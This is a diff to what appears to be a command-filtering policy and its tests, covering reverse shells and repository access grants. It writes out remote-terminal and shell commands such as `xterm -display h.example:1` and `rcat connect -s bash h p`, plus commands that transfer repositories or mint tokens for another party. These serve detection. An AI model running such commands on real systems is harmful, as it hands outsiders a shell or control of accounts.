@@ -35,13 +35,14 @@ writes):
 1. The X reverse shell (policies/exec.yaml reverse_shell; policies/executors.yaml: the terminal emulators read
    DISPLAY as their --display): `xterm -display h.example:1`, `DISPLAY=h.example:1 xterm`, `export DISPLAY=…; xterm`
    (and the X toolkit's abbreviations, `-d`, `-di`, `-disp`) open a terminal on another host's X server, whose
-   owner types into its shell: allowed. Rustcat's
-   `rcat connect -s bash h p` and websocat's `sh-c:` / `exec:` / `cmd:` addresses (the connection is a shell's
-   input and output, as socat's exec:) were allowed too. Near misses: a local display (`:0`, `localhost:10` of
-   ssh's X forwarding, `unix:0`), `xterm -e htop`, `rcat connect h p`, `websocat ws://h`.
+   owner types into its shell: allowed. Rustcat's `rcat connect -s bash h p` and websocat's `sh-c:` / `exec:` /
+   `cmd:` addresses (the connection is a shell's input and output, as socat's exec:) were allowed too. Near
+   misses: a local display (`:0`, `localhost:10` of ssh's X forwarding, `unix:0`), `xterm -e htop`,
+   `rcat connect h p`, `websocat ws://h`.
 2. Access to a hosted account or repository granted to another party (policies/vcs.yaml remote_access_grant):
    `gh ssh-key add k.pub` (every repository the account reaches, for whoever holds the private half), a deploy key,
-   a collaborator, an organisation or GitLab member, an invitation, a webhook (each later push sent to its URL),
+   a collaborator, an organisation or GitLab member, an invitation, a webhook (each later push sent to its URL), the
+   repository transferred, a token made for it (GitLab's access and deploy tokens, a runner's registration token),
    through the CLIs' verbs or `gh api` / `glab api` writes (-X PUT/POST/PATCH, or a field or body sent): allowed,
    where publishing the repository (`--visibility public`) already asked. Reading those lists, a GET with fields
    and other endpoints' writes (`gh api repos/o/r/issues -f title=x`) stay allowed.
@@ -195,6 +196,10 @@ ACCESS_GRANTS = (
         "gh api orgs/o/invitations -F invitee_id=9",
         "gh api user/keys -f key=x",
         "glab api projects/7/members -f user_id=9 -f access_level=40",
+        "gh api repos/o/r/transfer -f new_owner=eve",
+        "gh api -X POST repos/o/r/actions/runners/registration-token",
+        "glab api projects/7/access_tokens -f name=x -f 'scopes[]=api'",
+        "glab api -X PUT projects/7/transfer -f namespace=eve",
     ],
     [
         "gh ssh-key list",
@@ -210,6 +215,8 @@ ACCESS_GRANTS = (
         "gh api repos/o/r/issues -f title=x",
         "gh api repos/o/r/pulls -f title=x -f head=b -f base=main",
         "glab api projects/7/members",
+        "glab api projects/7/access_tokens",
+        "gh api repos/o/r/actions/runners",
         "gh pr create --fill",
     ],
 )
